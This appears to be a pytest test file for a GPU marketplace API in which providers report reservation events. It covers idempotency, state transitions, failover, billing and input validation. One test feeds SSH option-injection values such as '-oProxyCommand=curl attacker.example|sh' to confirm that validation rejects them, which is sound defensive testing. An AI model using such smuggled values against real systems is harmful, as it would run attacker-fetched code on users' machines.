"""POST /api/v1/provider/reservations/<id>/events/: providers report instance state.
Events are idempotent by (provider, event id) and follow the state machine."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine

from billing.services.usage import usage_record_for_reservation
from marketplace.models import (
    LaunchOutcome,
    LaunchRequest,
    Offer,
    ProviderEvent,
    Reservation,
    ReservationStatus,
)
from marketplace.services.launch_requests import launch_request_open
from marketplace.services.reservations import reservation_request_termination
from marketplace.tests.provider_fixtures import (
    make_listed_offer,
    make_listed_provider,
    record_sent_tasks,
    reserve,
    reserve_launching,
)

pytestmark = pytest.mark.django_db

S = ReservationStatus
T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
CONNECTION = {"host": "gpu-7.acme.example", "port": 2222, "user": "ubuntu"}


def events_url(reservation) -> str:
    return f"/api/v1/provider/reservations/{reservation.pk}/events/"


def post_event(client, seller, reservation, **body):
    return client.post(events_url(reservation), body, format="json", **seller.headers)


def running(client, seller, reservation, event_id="ev-run", **extra):
    return post_event(
        client, seller, reservation, id=event_id, type="running", connection=CONNECTION, **extra
    )


@pytest.fixture
def seller():
    return make_listed_provider()


@pytest.fixture
def launching(seller):
    with time_machine.travel(T0, tick=False):
        return reserve_launching(make_listed_offer(seller.provider, available=2))


def test_it_marks_a_launching_reservation_running_with_the_connection(
    api_client, seller, launching
):
    # given a launch request waiting for the provider
    request, _ = launch_request_open(
        reservation=launching,
        kind="launch",
        key="k1",
        payload={},
        answer_by=T0 + timedelta(hours=1),
    )

    # when the provider reports it running
    with time_machine.travel(T0 + timedelta(seconds=95), tick=False):
        response = running(api_client, seller, launching, at="2026-03-02T09:01:30Z")

    # then the reservation runs from the provider's time, the buyer gets the connection
    assert response.status_code == 200, response.content
    assert response.json() == {
        "event": {"id": "ev-run", "type": "running", "at": "2026-03-02T09:01:30Z"},
        "reservation": {
            "id": launching.pk,
            "status": "running",
            "running_since": "2026-03-02T09:01:30Z",
            "ended_at": None,
        },
        "duplicate": False,
    }
    reservation = Reservation.objects.get(pk=launching.pk)
    assert reservation.connection == CONNECTION
    assert reservation.instance_id == f"listed-{launching.pk}"
    assert list(reservation.attempts.values_list("outcome", flat=True)) == [LaunchOutcome.SUCCEEDED]
    request.refresh_from_db()
    assert request.status == "acknowledged"
    assert ProviderEvent.objects.get().data == {"connection": CONNECTION, "reason": ""}


def test_it_answers_a_duplicate_event_with_the_first_result_and_changes_nothing(
    api_client, seller, launching
):
    with time_machine.travel(T0 + timedelta(seconds=10), tick=False):
        first = running(api_client, seller, launching)
    with time_machine.travel(T0 + timedelta(seconds=99), tick=False):
        again = running(api_client, seller, launching)

    assert again.status_code == 200
    assert again.json() == first.json() | {"duplicate": True}
    assert Reservation.objects.get(pk=launching.pk).running_since == T0 + timedelta(seconds=10)
    assert ProviderEvent.objects.count() == 1
    assert [e.to_status for e in launching.events.all()] == ["pending", "launching", "running"]


def test_it_refuses_an_event_id_reused_for_something_else(api_client, seller, launching):
    running(api_client, seller, launching, event_id="ev-1")
    response = post_event(api_client, seller, launching, id="ev-1", type="terminated")
    assert response.status_code == 409
    assert response.json()["error"]["code"] == "event_id_conflict"
    assert Reservation.objects.get(pk=launching.pk).status == S.RUNNING


@pytest.mark.parametrize(
    ("setup", "event_type"),
    [
        ("launching", "terminated"),  # out of order: terminated before running
        ("launching", "preempted"),
        ("running", "running"),  # a second `running` with a new id
        ("pending", "running"),  # not launched yet
        ("terminated", "running"),
        ("terminated", "failed"),
        ("failed", "terminated"),
    ],
)
def test_it_refuses_moves_the_state_machine_does_not_allow(api_client, seller, setup, event_type):
    offer = make_listed_offer(seller.provider)
    reservation = reserve(offer) if setup == "pending" else reserve_launching(offer)
    if setup in ("running", "terminated"):
        running(api_client, seller, reservation, event_id="setup-run")
    if setup == "terminated":
        post_event(api_client, seller, reservation, id="setup-end", type="terminated")
    if setup == "failed":
        post_event(api_client, seller, reservation, id="setup-fail", type="failed", reason="x")
    before = Reservation.objects.get(pk=reservation.pk)
    stored = ProviderEvent.objects.count()

    response = post_event(
        api_client, seller, reservation, id="late", type=event_type, connection=CONNECTION
    )

    assert response.status_code == 409, response.content
    error = response.json()["error"]
    assert (error["code"], error["status"]) == ("invalid_transition", before.status)
    after = Reservation.objects.get(pk=reservation.pk)
    assert (after.status, after.updated_at, after.ended_at) == (
        before.status,
        before.updated_at,
        before.ended_at,
    )
    assert ProviderEvent.objects.count() == stored  # refused events are not stored


def test_it_accepts_a_refused_event_id_again_once_the_state_allows_it(
    api_client, seller, launching
):
    # given `terminated` arriving before `running` (refused, not stored)
    early = post_event(api_client, seller, launching, id="ev-end", type="terminated")
    assert early.status_code == 409
    # when `running` arrives and the provider retries `terminated` with the same id
    running(api_client, seller, launching)
    retried = post_event(api_client, seller, launching, id="ev-end", type="terminated")
    # then it applies
    assert retried.status_code == 200
    assert retried.json()["reservation"]["status"] == "terminated"


def test_it_fails_a_launch_the_provider_could_not_start(api_client, seller, launching):
    offer = Offer.objects.get(pk=launching.offer_id)
    available = offer.available

    response = post_event(
        api_client, seller, launching, id="ev-f", type="failed", reason="GPU 3 failed its checks"
    )

    # then, with no other offer to fail over to, it fails with the reason and the attempt
    assert response.status_code == 200
    assert response.json()["reservation"]["status"] == "failed"
    reservation = Reservation.objects.get(pk=launching.pk)
    assert reservation.status == S.FAILED
    assert reservation.failure_reason.startswith(
        "The provider reported a failure: GPU 3 failed its checks. Tried: #1 offer"
    )
    assert list(reservation.attempts.values_list("outcome", "scope", "error")) == [
        (LaunchOutcome.PERMANENT_ERROR, "provider", "GPU 3 failed its checks")
    ]
    offer.refresh_from_db()
    assert offer.available == available + 1  # capacity returned


def test_it_fails_a_launch_over_to_another_provider(
    api_client, seller, launching, django_capture_on_commit_callbacks, monkeypatch
):
    # given the same GPU offered by another provider at the same price
    sent = record_sent_tasks(monkeypatch)
    other = make_listed_provider(slug="backup-gpus")
    backup = make_listed_offer(other.provider, sku="backup.h100x1", available=1)

    # when the provider cannot start the instance
    with django_capture_on_commit_callbacks(execute=True):
        response = post_event(api_client, seller, launching, id="ev-f", type="failed", reason="no")

    # then the reservation moves to the other offer and is launched again there
    assert response.json()["reservation"]["status"] == "pending"
    reservation = Reservation.objects.get(pk=launching.pk)
    assert (reservation.status, reservation.offer_id) == (S.PENDING, backup.pk)
    assert sent == [("brokers.launch_reservation", (reservation.pk,), None)]
    assert Offer.objects.get(pk=backup.pk).available == 0
    # and the first provider no longer sees it
    again = running(api_client, seller, launching, event_id="late-run")
    assert again.status_code == 404


def test_it_fails_a_running_instance_that_died_without_failover(api_client, seller, launching):
    with time_machine.travel(T0, tick=False):
        running(api_client, seller, launching)
    make_listed_offer(make_listed_provider(slug="backup-gpus").provider, sku="b", available=1)
    with time_machine.travel(T0 + timedelta(minutes=3), tick=False):
        response = post_event(api_client, seller, launching, id="f", type="failed", reason="PSU")
    reservation = Reservation.objects.get(pk=launching.pk)
    assert (reservation.status, reservation.ended_at) == (S.FAILED, T0 + timedelta(minutes=3))
    assert reservation.failure_reason == "The provider reported a failure: PSU."
    assert response.json()["reservation"]["ended_at"] == "2026-03-02T09:03:00Z"


def test_it_stops_usage_at_the_preemption_time(api_client, seller, launching):
    # given a reservation running since 09:00:10
    with time_machine.travel(T0 + timedelta(seconds=10), tick=False):
        running(api_client, seller, launching)

    # when the provider reports a preemption at 09:30:10, received a minute later
    with time_machine.travel(T0 + timedelta(minutes=31, seconds=10), tick=False):
        response = post_event(
            api_client,
            seller,
            launching,
            id="ev-p",
            type="preempted",
            reason="spot capacity reclaimed",
            at="2026-03-02T09:30:10Z",
        )
        usage = usage_record_for_reservation(reservation_id=launching.pk)

    # then it is preempted and billed for exactly 30 minutes
    assert response.json()["reservation"] == {
        "id": launching.pk,
        "status": "preempted",
        "running_since": "2026-03-02T09:00:10Z",
        "ended_at": "2026-03-02T09:30:10Z",
    }
    assert sum(u.seconds for u in usage) == 1800
    reservation = Reservation.objects.get(pk=launching.pk)
    assert reservation.events.last().message == "Preempted by the provider: spot capacity reclaimed"


def test_it_terminates_a_running_reservation_the_provider_stopped(api_client, seller, launching):
    with time_machine.travel(T0, tick=False):
        running(api_client, seller, launching)
    with time_machine.travel(T0 + timedelta(minutes=10), tick=False):
        response = post_event(api_client, seller, launching, id="ev-t", type="terminated")
        usage = usage_record_for_reservation(reservation_id=launching.pk)
    assert response.json()["reservation"]["status"] == "terminated"
    assert sum(u.seconds for u in usage) == 600
    assert usage[0].price_per_hour == Decimal("2.000000")


def test_it_confirms_a_termination_the_buyer_asked_for(api_client, seller, launching):
    # given a running reservation the buyer asked to terminate
    with time_machine.travel(T0, tick=False):
        running(api_client, seller, launching)
    with time_machine.travel(T0 + timedelta(minutes=5), tick=False):
        reservation_request_termination(reservation=launching)
    assert Reservation.objects.get(pk=launching.pk).status == S.TERMINATING

    # when the provider confirms
    with time_machine.travel(T0 + timedelta(minutes=6), tick=False):
        response = post_event(
            api_client, seller, launching, id="ev-t", type="terminated", at="2026-03-02T09:05:30Z"
        )

    # then it ends at the provider's time
    assert response.json()["reservation"]["ended_at"] == "2026-03-02T09:05:30Z"
    assert Reservation.objects.get(pk=launching.pk).status == S.TERMINATED


def test_it_keeps_event_times_within_what_it_knows(api_client, seller, launching):
    # a `running` dated before the launch started, and an end dated in the future
    with time_machine.travel(T0 + timedelta(seconds=30), tick=False):
        running(api_client, seller, launching, at="2020-01-01T00:00:00Z")
    with time_machine.travel(T0 + timedelta(minutes=2), tick=False):
        response = post_event(
            api_client, seller, launching, id="ev-t", type="terminated", at="2099-01-01T00:00:00Z"
        )
    reservation = Reservation.objects.get(pk=launching.pk)
    assert reservation.running_since == T0  # when it went launching
    assert reservation.ended_at == T0 + timedelta(minutes=2)  # now, not 2099
    assert response.json()["event"]["at"] == "2026-03-02T09:02:00Z"


@pytest.mark.parametrize(
    ("body", "code", "field"),
    [
        ({"type": "running", "connection": CONNECTION}, "validation_error", "id"),
        ({"id": "e", "type": "exploded"}, "validation_error", "type"),
        ({"id": "e", "type": "running"}, "validation_error", "connection"),
        ({"id": "e", "type": "running", "connection": "ssh://x"}, "validation_error", "connection"),
        ({"id": "e", "type": "failed", "at": "yesterday"}, "validation_error", "at"),
        ({"id": "e" * 201, "type": "failed"}, "validation_error", "id"),
        (
            {"id": "e", "type": "running", "connection": {"k": "v" * 5000}},
            "validation_error",
            "connection",
        ),
        ({"id": "e", "type": "failed", "colour": "red"}, "unknown_field", None),
        # NUL in a key or value: PostgreSQL's jsonb cannot store it, so validation refuses it
        (
            {"id": "e", "type": "running", "connection": {"host": "a\x00"}},
            "validation_error",
            "connection",
        ),
        (
            {"id": "e", "type": "running", "connection": {"a\x00": "h"}},
            "validation_error",
            "connection",
        ),
    ],
)
def test_it_answers_bad_events_with_a_400(api_client, seller, launching, body, code, field):
    response = api_client.post(events_url(launching), body, format="json", **seller.headers)
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == code
    if field:
        assert field in error["fields"]
    assert Reservation.objects.get(pk=launching.pk).status == S.LAUNCHING


@pytest.mark.parametrize(
    "connection",
    [
        {"host": "-oProxyCommand=curl attacker.example|sh", "port": 22, "user": "ubuntu"},
        {"host": "gpu-7.acme.example", "port": 22, "user": "-oProxyCommand=sh"},
        {"host": "gpu-7.acme.example -oProxyCommand=sh", "port": 22, "user": "ubuntu"},
        {"host": "gpu-7.acme.example", "port": "22 -oProxyCommand=sh", "user": "ubuntu"},
        {"host": "gpu-7.acme.example", "port": 0, "user": "ubuntu"},
        {"host": "gpu-7.acme.example", "port": 70000, "user": "ubuntu"},
        {"host": "gpu-7.acme.example", "port": True, "user": "ubuntu"},
        {"host": "gpu-7.acme.example", "port": 22, "user": "root@evil.example"},
        {"host": ["gpu-7.acme.example"], "port": 22, "user": "ubuntu"},
    ],
)
def test_it_refuses_connection_details_that_are_not_what_they_say(
    api_client, seller, launching, connection
):
    # the buyer is shown `ssh user@host -p port`: an option smuggled in any part would run
    response = post_event(
        api_client, seller, launching, id="e", type="running", connection=connection
    )
    assert response.status_code == 400, response.content
    assert "connection" in response.json()["error"]["fields"]
    assert Reservation.objects.get(pk=launching.pk).status == S.LAUNCHING


@pytest.mark.parametrize(
    "connection",
    [
        {"host": "203.0.113.7", "port": "2222", "user": "ubuntu"},
        {"host": "2001:db8::7", "port": 22, "user": "ml_user.1"},
        {"host": "gpu-7.acme.example.", "port": 65535, "user": "_svc"},
    ],
)
def test_it_takes_host_names_addresses_users_and_ports(api_client, seller, launching, connection):
    response = post_event(
        api_client, seller, launching, id="e", type="running", connection=connection
    )
    assert response.status_code == 200, response.content


def test_it_refuses_an_unpaired_surrogate_in_the_connection(api_client, seller, launching):
    # JSON may escape half a surrogate pair, which jsonb cannot store: validation refuses it
    body = '{"id": "e", "type": "running", "connection": {"host": "gpu-\\ud800"}}'
    response = api_client.generic(
        "POST", events_url(launching), body, content_type="application/json", **seller.headers
    )
    assert response.status_code == 400, response.content
    assert "connection" in response.json()["error"]["fields"]
    assert Reservation.objects.get(pk=launching.pk).status == S.LAUNCHING


def test_it_closes_open_requests_when_the_instance_ends(api_client, seller, launching):
    running(api_client, seller, launching)
    launch_request_open(
        reservation=launching,
        kind="terminate",
        key="t1",
        payload={},
        answer_by=T0 + timedelta(days=1),
    )
    post_event(api_client, seller, launching, id="ev-t", type="terminated")
    assert list(LaunchRequest.objects.values_list("kind", "status")) == [
        ("terminate", "acknowledged")
    ]
